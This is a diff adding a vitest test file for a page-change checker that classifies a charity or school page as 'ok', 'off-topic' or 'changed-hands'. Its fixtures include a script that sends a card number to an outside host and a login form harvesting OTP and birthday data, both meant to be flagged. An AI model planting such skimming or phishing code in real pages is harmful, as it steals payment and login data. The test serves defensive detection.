@@ -1,0 +1,113 @@
+import { describe, expect, it } from "vitest";
+import { judgeLook } from "./judge-look.ts";
+import type { AnsweredLook } from "./look.ts";
+import { type PagePicture, toPagePicture } from "./page-picture.ts";
+import { type PageFacts, readPage } from "./read-page.ts";
+
+const address = "https://www.path-finder.org/guide";
+const page = (title: string, body: string) =>
+  readPage(`<title>${title}</title><h1>${title}</h1>${body}`, address);
+const lessons =
+  "<p>Lessons on rivers, bridges and maps for students, with worksheets about fractions, volcanoes and sails.</p>";
+
+function judgeAnswer(now: PageFacts, approved?: PagePicture) {
+  const look: AnsweredLook = {
+    kind: "answer",
+    status: 200,
+    contentType: "text/html",
+    isChallenge: false,
+    bodyBytes: 900,
+    page: now,
+    isSlow: false,
+    finalUrl: address,
+    hops: [],
+    passed: [],
+  };
+  const promise = {
+    url: address,
+    name: "Path Finder",
+    description: "Lessons.",
+    ...(approved ? { approved } : {}),
+  };
+  return judgeLook(look, promise, "2026-11-02").verdict;
+}
+
+describe("a school's or a charity's page that was made anew is asked about, and not taken away", () => {
+  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
+  const menu = "<a href=/a>Lending</a><a href=/b>Buses</a><a href=/c>Kitchen</a><a href=/d>Garden</a>";
+  const shows = (body: string, head = "") =>
+    judgeAnswer(
+      readPage(`${head}<title>Path Finder: new</title><h1>Path Finder</h1>${menu}${body}`, address),
+      before,
+    );
+  const card = "<input name=cardnumber><input name=cvc>";
+  const prices = "<p>A coat for £10.00</p><p>A week for £25.00</p>";
+
+  it.each([
+    ["takes gifts by card", `${prices}<form action=/give>${card}</form>`],
+    [
+      "takes gifts where payments are taken",
+      `${prices}<form action=https://checkout.stripe.com/pay>${card}</form>`,
+    ],
+    [
+      "has its script ask for a token there",
+      `${prices}<form>${card}</form><script>const d=cardnumber.value;fetch("https://api.stripe.com/v1/tokens?"+d)</script>`,
+    ],
+    [
+      "leads to a vendor's antivirus",
+      "<p>Antivirus is free for all who study here.</p><a href=https://download.there.club/setup.exe>Windows</a>",
+    ],
+    [
+      "has its own program downloaded",
+      "<p>Draw circles, and drag a corner.</p><a download href=https://files.there.club/draw-setup.exe>Windows</a>",
+    ],
+    ["auctions for its library", `${prices}<a href=https://bids.there.club/auction/path-finder.org>Bid</a>`],
+    [
+      "plays in a hall that is called a casino",
+      `${prices}<a href=https://www.stadtcasino-basel.ch/>The hall</a>`,
+    ],
+    [
+      "prints and binds what others wrote",
+      `${prices}<p>We take it from there: your thesis in hardcover, ready to submit, confidential, prices per page.</p><button>Get a quote</button>`,
+    ],
+  ])("%s", (_, body) => {
+    expect(["ok", "looks-different", "off-topic"]).toContain(shows(body));
+  });
+
+  it("shows films for grown-ups, or teaches them", () => {
+    const told =
+      "<p>Evening classes for students at the college: pottery, bread, basic maths. Our teachers are kind.</p>";
+    expect(
+      shows("<p>Varda and De Sica on eight evenings.</p>", '<meta name="rating" content="mature">'),
+    ).toBe("looks-different");
+    expect(shows(told, '<meta name="rating" content="adult">')).toBe("looks-different");
+  });
+
+  it("is a door to someone's program, which asks for a name and a password, and for nothing else", () => {
+    const door = (more: string) =>
+      judgeAnswer(
+        readPage(
+          `<title>Path Finder</title><h1>Path Finder</h1><p>Parents sign in here to see meals, buses and letters.</p><form action=https://in.there.club/login><input name=u><input type=password name=p>${more}</form>`,
+          address,
+        ),
+        before,
+      );
+    expect(door("")).not.toBe("changed-hands");
+    expect(door("<input name=otp><input name=birthday>")).toBe("changed-hands");
+  });
+});
+
+it("a page as it was is fine where a script sends a search or an address for a newsletter, and not a card", () => {
+  const form = "<form action=/give><input name=cardnumber><input name=cvc></form>";
+  const give = (script: string) => page("Path Finder: give", `${form}${lessons}<script>${script}</script>`);
+  const before = toPagePicture(address, address, give(""), "2026-11-01");
+  const send = (what: string) => `const d=${what}.value;fetch("https://letters.there.club/?"+d)`;
+  expect(judgeAnswer(give(send("nlmail")), before)).toBe("ok");
+  expect(judgeAnswer(give(send("search")), before)).toBe("ok");
+  expect(judgeAnswer(give(send("cardnumber")), before)).toBe("off-topic");
+});
+
+it("a school's page that nobody has seen may lead to a report on its own name", () => {
+  const report = '<a href="https://reports.there.club/gui/domain/path-finder.org">Checked</a>';
+  expect(judgeAnswer(page("Path Finder", lessons + report))).toBe("ok");
+});
